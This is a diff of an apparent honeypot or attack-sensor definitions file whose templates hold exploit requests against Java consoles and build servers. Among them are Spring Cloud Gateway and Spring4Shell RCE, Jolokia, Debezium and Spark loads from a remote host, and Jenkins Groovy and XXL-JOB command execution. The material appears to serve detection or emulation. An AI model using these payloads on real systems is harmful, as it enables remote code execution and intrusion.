@@ -18,13 +18,13 @@ _account = attack("Persistence", "T1136", "T1190", severity="HIGH")
 
 topic("sensor-java-consoles-taken-over sensor-java-consoles-in-service", "code access disclosure settings", "Spring Boot Actuator 未授权访问|Jolokia 远程代码执行|Nacos 认证绕过漏洞|XXL-JOB 任意命令执行|Spring Cloud Gateway 代码注入(CVE-2022-22947)|Druid 未授权访问", {
     _code: """
-POST /actuator/gateway/routes/{word} ¦¦ {"id":"{word}","filters":[{"name":"AddResponseHeader","args":{"name":"R","value":"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec('{cmd}').getInputStream()))}"}}],"uri":"http://a"}
+POST /actuator/gateway/routes/{word} ¦¦ {"filters":[{"args":{"value":"#{T(java.lang.Runtime).getRuntime().exec('{cmd}')}","name":"R"},"name":"AddResponseHeader"}],"id":"{word}","uri":"http://a"}
 GET /jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/{outside}!/logback.xml
 POST /actuator/env ¦¦ {"name":"spring.cloud.bootstrap.location","value":"http://{outside}/{word}.yml"}
 POST /env ¦¦ eureka.client.serviceUrl.defaultZone=«http://{outside}/xstream»
 POST /run ¦¦ {"jobId":1,"executorHandler":"demoJobHandler","executorParams":"","glueType":"GLUE_SHELL","glueSource":"{cmd}","glueUpdatetime":{big},"logId":1}
 POST /functionRouter ¦ spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("{cmd}") ¦¦ x=1
-POST /jolokia ¦¦ {"type":"EXEC","mbean":"com.sun.management:type=DiagnosticCommand","operation":"jvmtiAgentLoad","arguments":["/tmp/{word}.so"]}
+POST /jolokia ¦¦ {"type":"EXEC","operation":"jvmtiAgentLoad","arguments":["/tmp/{word}.so"],"mbean":"com.sun.management:type=DiagnosticCommand"}
 POST /hello ¦ cmd: {cmd} ¦¦ class.module.classLoader.resources.context.parent.pipeline.first.pattern=«%{c2}i if("j".equals(request.getParameter("pwd")))»&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp
 """, _account: """
 POST /nacos/v1/auth/users ¦ User-Agent: Nacos-Server ¦¦ username={word}&password={word}
@@ -119,7 +119,7 @@ POST /ws/v1/cluster/apps ¦¦ {"application-id":"application_{big}_0001","applic
 POST /jars/upload ¦¦ ------F{hex}⏎Content-Disposition: form-data; name="jarfile"; filename="../../../../../../tmp/{word}.jar"⏎⏎PK Runtime.getRuntime().exec⏎------F--
 POST /v1/submissions/create ¦¦ {"action":"CreateSubmissionRequest","appResource":"http://{outside}/{word}.jar","mainClass":"Exploit","appArgs":["{cmd}"],"clientSparkVersion":"2.3.1"}
 POST /api/experimental/dags/example_trigger_target_dag/dag_runs ¦¦ {"conf":{"message":"\\";{cmd};#"}}
-POST /connectors ¦¦ {"name":"{word}","config":{"connector.class":"io.debezium.connector.mysql.MySqlConnector","database.history.producer.sasl.jaas.config":"com.sun.security.auth.module.JndiLoginModule required user.provider.url=\\"ldap://{outside}/x\\""}}
+POST /connectors ¦¦ {"config":{"database.history.producer.sasl.jaas.config":"com.sun.security.auth.module.JndiLoginModule required user.provider.url=\\"ldap://{outside}/x\\"","connector.class":"io.debezium.connector.mysql.MySqlConnector"},"name":"{word}"}
 POST /druid/indexer/v1/sampler ¦¦ {"type":"index","spec":{"dataSchema":{"transformSpec":{"filter":{"type":"javascript","function":"function(v){java.lang.Runtime.getRuntime().exec('{cmd}')}","":{"enabled":true}}}}}}
 POST /api/v1/notebook/job ¦¦ {"paragraphs":[{"text":"%sh\\n{cmd}"}]}
 POST /dolphinscheduler/projects/1/process-definition ¦¦ taskDefinitionJson=«[{"taskType":"SHELL","taskParams":{"rawScript":"{cmd}"}}]»&name={word}
@@ -170,7 +170,7 @@ topic("sensor-build-servers-breached sensor-build-servers-building", "code acces
     _code: """
 POST /scriptText ¦¦ script=«println "{cmd}".execute().text»
 POST /script ¦¦ script=«def p=['sh','-c','{cmd}'].execute();p.waitFor();println p.text»&Submit=Run
-POST /descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript ¦¦ sandbox=true&value=«public class x{public x(){"{cmd}".execute()}}»
+POST /descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript ¦¦ value=«public class x{public x(){"{cmd}".execute()}}»&sandbox=true
 POST /service/rest/beta/repositories/go/group ¦¦ {"name":"internal","group":{"memberNames":["$\\\\A{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('{cmd}')}"]}}
 POST /uploads/user ¦¦ ------G{hex}⏎Content-Disposition: form-data; name="file"; filename="{word}.jpg"⏎⏎AT&TFORM DJVMDIRM (metadata "\\c${system('{cmd}')};")⏎------G--
 POST /hax?jsp=/app/rest/users;.jsp ¦¦ {"username":"{word}","password":"{word}","roles":{"role":[{"roleId":"SYSTEM_ADMIN","scope":"g"}]}}
